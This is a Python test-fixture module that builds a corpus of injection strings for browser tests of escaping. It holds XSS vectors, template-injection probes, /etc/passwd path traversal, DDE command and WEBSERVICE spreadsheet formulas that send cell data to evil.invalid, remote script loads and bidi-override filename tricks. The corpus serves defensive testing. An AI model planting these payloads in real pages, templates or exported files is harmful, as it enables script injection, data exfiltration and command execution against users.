"""Text that breaks out of where it is put, unless it is made harmless.

Each entry would do something that a browser test sees: run a script, ask for ``evil.invalid``
or a file, or break the page. `planted` marks it, so that it can be found again where shown.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.ran=1"
"""What a script of the corpus does."""
_URL: Final = "http://evil.invalid/x"

HTML: Final = {
    "script": f"<script>{RUN}</script>",
    "remote script": f"<script src={_URL}.js></script>",
    "image": f"<img src={_URL}.png onerror='{RUN}'>",
    "image without quotes": f"<img src=x onerror={RUN}//",
    "file": "<img src=file:///etc/hostname><iframe src=file:///etc/hostname></iframe>",
    "svg": f"<svg onload={RUN}><script>{RUN}</script><use href={_URL}.svg#a /></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "frame": f"<iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;' src={_URL}></iframe>",
    "object": f"<object data={_URL}></object><embed src={_URL}>",
    "link": f"<link rel=stylesheet href={_URL}.css><link rel=prefetch href={_URL}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_URL}'><base href={_URL}/>",
    "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "form": f"<form action={_URL}><input autofocus onfocus={RUN}><button>Go</button></form>",
    "details": f"<details open ontoggle={RUN}>",
    "marquee": f"<marquee onstart={RUN}>",
    "comment": f"--><script>{RUN}</script><!--",
    "title": f"</title><script>{RUN}</script>",
    "style": f"</style><script>{RUN}</script><style>@import '{_URL}.css';",
    "textarea": f"</textarea></noscript></template></xmp><script>{RUN}</script>",
    "cdata": f"]]><script>{RUN}</script>",
    "json": f'"}}]</script><script>{RUN}</script>',
}
ATTRIBUTE: Final = {
    "double": f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus="" x="',
    "single": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "backtick": f"`onerror={RUN}`",
    "unquoted": f"x onload={RUN} style=background:url({_URL})",
    "entity": f"&#34; onload=&#34;{RUN}&#34;&quot;&lt;script&gt;{RUN}&lt;/script&gt;",
    "slash": f"x/onload={RUN}/",
}
URL: Final = {
    "javascript": f"javascript:{RUN}",
    "javascript in pieces": f"jAva\tscr\nipt:{RUN}//",
    "data": f"data:text/html,<script>{RUN}</script>",
    "protocol": "//evil.invalid/x",
    "folders": "../../../../etc/passwd",
    "smb": r"\\evil.invalid\share\x",
}
CSS: Final = {
    "import": f"}}@import url({_URL});*{{background:url({_URL})}}",
    "expression": f"x:expression({RUN});behavior:url({_URL})",
    "escape": r"\3c script\3e " + RUN,
    "variable": f"</style><style>:root{{--x:url({_URL})}}*{{background:var(--x)}}",
}
TEMPLATE: Final = {
    "braces": "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "statement": "{% include '/etc/passwd' %}{# x #}",
    "dollar": "${7*7}#{7*7}<%= 7*7 %>%s%(x)s{0}{x!r}",
    "markup": "[x](javascript:alert(1)) ![x](http://evil.invalid/x) [bold]x[/bold]",
    "vega": "datum.x;url='http://evil.invalid/x'",
}
FORMULA: Final = {
    "sum": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "call": '=HYPERLINK("http://evil.invalid/"&A1,"x")',
    "dde": "=cmd|' /C calc'!A0",
    "dde with a sign": "+cmd|' /C calc'!A0",
    "webservice": '=WEBSERVICE("http://evil.invalid/"&A2)',
    "array": "{=1+1}",
    "tab": "\t=1+1",
    "tab alone": "\tx",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "blank": "  =1+1",
    "no-break space": "\u00a0=1+1",
    "wide blank": "\u3000=1+1",
    "byte order mark": "\ufeff=1+1",
    "zero width": "\u200b=1+1",
    "control": "\x01=1+1",
    "quote": '"=1+1',
    "quotes": '" "" =1+1',
    "next cell": "x;=1+1",
    "next cell of commas": 'x",=1+1,"',
    "next cell of tabs": "x\t@SUM(A1)",
    "next cell of bars": "x|-1",
    "next row": 'x"\n=1+1',
    "next row of returns": "x\r  +1",
    "full width": "＝1＋1",
    "full width at": "＠SUM(1)",
    "small": "﹦1",
}
CONTROL: Final = {
    "nul": "a\x00b<\x00script>",
    "escape sequence": "\x1b[2J\x1b]0;x\x07\x1b]8;;http://evil.invalid\x1b\\",
    "backspace": "abc\x08\x08\x7f",
    "c1": "a\x85b\x9b31m",
    "override": "\u202egpj.exe\u202c \u2066x\u2069 \u061c\u200f",
    "isolate left open": "\u2067\u202bx",
    "separators": "a\u2028b\u2029c\x0b\x0c\x1c",
    "not a character": "\ufffe\uffff\U0001ffff\ufdd0",
    "private": "\ue000\U000f0000",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "marks": "e" + "\u0301\u0489" * 40,
    "tags": "\U000e0041\U000e007f",
}
LONG: Final = {
    "word": "W" * 600,
    "wide": "﷽" * 80,
    "lines": "a\n" * 30,
}
SURROGATES: Final = {
    "undecodable": "\udcff\udc80x",
    "half": "x\ud83d",
}
"""As a file's name may be; no column can hold them."""

CORPUS: Final = {
    f"{kind}: {name}": text
    for kind, texts in {
        "html": HTML,
        "attribute": ATTRIBUTE,
        "url": URL,
        "css": CSS,
        "template": TEMPLATE,
        "formula": FORMULA,
        "control": CONTROL,
        "long": LONG,
    }.items()
    for name, text in texts.items()
}
TEXTS: Final = tuple(CORPUS.values())
WRAPPING: Final = tuple(t for t in TEXTS if t not in {LONG["wide"], CONTROL["marks"]})
"""Without letters that are wider than a small screen by themselves: nothing can help these."""
